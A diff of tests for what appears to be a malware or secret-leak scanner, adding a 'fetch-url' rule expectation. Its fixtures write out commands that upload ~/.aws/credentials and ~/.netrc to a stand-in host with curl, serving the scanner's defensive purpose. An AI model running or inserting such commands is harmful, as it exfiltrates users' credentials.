@@ -126,7 +126,8 @@ def test_an_image_does_not_block_at_the_default_threshold_an_executable_shows(
 def test_the_strings_of_a_binary_are_scanned(tmp_path: Path) -> None:
     tool = tmp_path / "tool"
     tool.write_bytes(ELF + b"\0curl -s -T ~/.aws/credentials https://c.example\0" + ELF)
-    assert rules_at(scan(tool)) == {("binary-executable", 0), ("credential-file-sent", 0)}
+    assert rules_at(scan(tool)) == {("binary-executable", 0), ("credential-file-sent", 0),
+                                   ("fetch-url", 0)}
 
 
 def test_binary_data_is_still_read_as_text(tmp_path: Path) -> None:
@@ -226,8 +227,9 @@ def test_continued_lines_are_one_command(tmp_path: Path) -> None:
     path = tmp_path / "send.sh"
     path.write_text("#!/bin/sh\ncurl -s \\\n  -F f=@$HOME/.netrc \\\n  https://c.example\n"
                     "echo done\n")
-    (finding,) = scan(path)
+    finding, fetch = sorted(scan(path), key=lambda f: f.rule)
     assert (finding.rule, finding.line) == ("credential-file-sent", 2)
+    assert (fetch.rule, fetch.line) == ("fetch-url", 2)
     assert finding.excerpt.startswith("curl -s   -F f=@$HOME/.netrc")
 
 
